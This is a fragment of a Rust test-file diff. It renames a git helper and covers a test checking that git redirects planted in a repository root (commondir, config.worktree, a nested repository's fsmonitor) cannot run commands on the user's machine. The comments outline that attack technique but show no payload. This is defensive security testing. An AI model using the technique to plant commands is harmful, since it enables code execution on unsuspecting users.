-            .current_dir(dir)
-            .env("HOME", dir)
-            .env("GIT_CONFIG_NOSYSTEM", "1"),
-    )
-    .output()
-    .expect("git is required: apt-get install -y git")
-}
-
 #[test]
 fn git_redirects_planted_in_a_root_do_not_reach_the_users_git() {
     // .git/commondir (or config.worktree) makes git read another config:
@@ -808,9 +916,9 @@ fn git_redirects_planted_in_a_root_do_not_reach_the_users_git() {
     // these away when the server ends, and reports them and a new
     // repository it made, with what they would run.
     let t = tree();
-    assert!(git_in(&t, &t.r, &["init", "-q"]).status.success());
+    assert!(t.git(&t.r, &["init", "-q"]).status.success());
     std::fs::write(t.r.join("tracked"), "v1").unwrap();
-    assert!(git_in(&t, &t.r, &["add", "tracked"]).status.success());
+    assert!(t.git(&t.r, &["add", "tracked"]).status.success());
     let marker = t.outside.join("fsmonitor-ran");
     let r = t.r.display().to_string();
     let out = t.run(
@@ -845,7 +953,7 @@ fn git_redirects_planted_in_a_root_do_not_reach_the_users_git() {
         err.contains("nested/.git") && err.contains("fsmonitor"),
         "the new repository was not reported with what it runs:\n{err}"
     );
-    let st = git_in(&t, &t.r, &["status", "--short"]);
+    let st = t.git(&t.r, &["status", "--short"]);
     assert!(st.status.success(), "{}", String::from_utf8_lossy(&st.stderr));
     assert!(!marker.exists(), "a command planted by the server ran outside");
 }
